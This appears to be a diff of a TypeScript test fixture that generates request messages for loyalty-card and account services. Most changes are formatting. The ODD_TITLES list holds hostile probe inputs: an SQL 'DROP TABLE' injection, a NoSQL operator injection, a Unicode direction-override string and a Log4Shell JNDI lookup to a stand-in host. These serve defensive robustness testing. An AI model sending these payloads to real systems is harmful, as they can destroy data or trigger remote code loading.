@@ -17,14 +17,37 @@ export interface ValidRequest {
   stored?: { collection: string; id: string; field: string; value: string };
 }
 
-const ODD_TITLES = ['{"$gt":""} お知らせ', "'; DROP TABLE contacts;--", 'a\u0000b\u202ec', '${jndi:ldap://x.example/a}', '<b>太字</b>\r\n改行'];
+const ODD_TITLES = [
+  '{"$gt":""} お知らせ',
+  "'; DROP TABLE contacts;--",
+  'a\u0000b\u202ec',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
+  '${jndi:ldap://x.example/a}',
+  '<b>太字</b>\r\n改行',
+];
 
-export function validRequests(count: number, targets: readonly Target[], extraReply: string, tag: string): { requests: ValidRequest[]; personal: string[] } {
+export function validRequests(
+  count: number,
+  targets: readonly Target[],
+  extraReply: string,
+  tag: string,
+): { requests: ValidRequest[]; personal: string[] } {
   const requests: ValidRequest[] = [];
   const personal: string[] = [];
   const add = (t: Target, id: string, v: Value, n: number, extra: Partial<ValidRequest> = {}): void => {
-    const headers: Record<string, string> = { 'correlation-id': id, ...(n % 50 === 7 ? { 'x-trace-blob': 't'.repeat(300_000) } : {}) };
-    requests.push({ target: t, id, key: t.key(v), value: wire(t.schemaId, t.type.toBuffer(v)), headers, replyTopic: t.replyTopic, ...extra });
+    const headers: Record<string, string> = {
+      'correlation-id': id,
+      ...(n % 50 === 7 ? { 'x-trace-blob': 't'.repeat(300_000) } : {}),
+    };
+    requests.push({
+      target: t,
+      id,
+      key: t.key(v),
+      value: wire(t.schemaId, t.type.toBuffer(v)),
+      headers,
+      replyTopic: t.replyTopic,
+      ...extra,
+    });
   };
   for (let n = 0; requests.length < count; n++) {
     const t = targets[n % targets.length]!;
@@ -33,11 +56,21 @@ export function validRequests(count: number, targets: readonly Target[], extraRe
     const op = Object.values(v.operation as Record<string, Value>)[0]!;
     if (t.name === 'card') {
       const lc = op.loyaltyCard as Value;
-      lc.cardPinHmac = (n.toString(16).padStart(8, '0') + 'ab').repeat(7).slice(0, 64);
+      lc.cardPinHmac = `${n.toString(16).padStart(8, '0')}ab`.repeat(7).slice(0, 64);
       personal.push(String(lc.phoneNumber), String(lc.cardPinHmac));
       const toExtra = n % 5 === 0;
-      add(t, id, v, n, toExtra ? { replyTopic: extraReply, headers: { 'correlation-id': id, 'reply-topic': extraReply } } : {});
-      const activate = { ...v, requestId: `${id}-act`, operation: { 'alcs.card.ActivateCard': { cardNumber: op.cardNumber, phoneNumber: lc.phoneNumber } } };
+      add(
+        t,
+        id,
+        v,
+        n,
+        toExtra ? { replyTopic: extraReply, headers: { 'correlation-id': id, 'reply-topic': extraReply } } : {},
+      );
+      const activate = {
+        ...v,
+        requestId: `${id}-act`,
+        operation: { 'alcs.card.ActivateCard': { cardNumber: op.cardNumber, phoneNumber: lc.phoneNumber } },
+      };
       add(t, `${id}-act`, activate, n);
     } else if (t.name === 'account') {
       op.phone = `090-${String(1000 + (n % 9000))}-${String(5000 + (n % 4000))}`;
